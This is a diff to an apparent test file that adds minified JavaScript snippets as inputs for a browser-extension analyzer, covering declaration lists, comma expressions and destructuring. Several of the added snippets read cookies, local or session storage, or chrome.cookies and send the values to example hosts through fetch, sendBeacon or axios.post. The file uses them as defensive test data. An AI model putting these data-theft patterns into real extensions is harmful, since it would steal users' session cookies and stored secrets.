@@ -107,6 +107,13 @@ SNIPPETS = [
     'chrome.tabs.sendMessage(id, { ping: 1 });\nchrome.runtime.connectNative("host.app");\nresponse.clone();\n',
     # insecure and raw addresses
     'fetch("http://198.51.100.7/a.js");\nfetch("http://localhost:8080/dev");\nconst img = "http://www.google-analytics.com/collect";\nconst z = "https://static.zone.zip/q";\n',
+    # declaration lists and comma expressions, as minified code has them
+    'const P = "https://first", Q = P + ".list.example.org", R = [1, 2], S = f(R, 3), T = Q + "/t";\nfetch(T);var n, h = "https://bare.list.example.net", o = { u: h + "/o", v: { w: 1 } };fetch(o.u);\n'
+    'let j = 1, v = document.cookie, w = v + j;navigator.sendBeacon("https://list.example.top/l", w);el.src = "a.js", el.id = "x", p.href = h;\nfor (let i = 0, m = localStorage.getItem("m"); i < 3; i++) send(i, m);\n',
+    # binding patterns
+    'const { a: { token }, ...others } = JSON.parse(document.cookie), [first, , { deep: [second = 4] }] = sessionStorage.getItem("p");\nfetch("https://nested.example.org/n", { body: second });\naxios.post("https://nested.example.org/r", others);\n'
+    'chrome.storage.local.get("k").then(({ k }) => fetch("https://then.example.org/k", { body: k }));\nchrome.cookies.getAll({}).then(function ([one, { value: two }]) { navigator.sendBeacon("https://then.example.org/f", two); }).then(all => keep(all));\n'
+    '({ left, right: box.side } = chrome.tabs.query({}));\nchrome.runtime.sendMessage(box);\n',
 ]
 
 _EXPOSED = [{"resources": ["scripts/overlay.js", "img/a.png"], "matches": ["<all_urls>"]}]
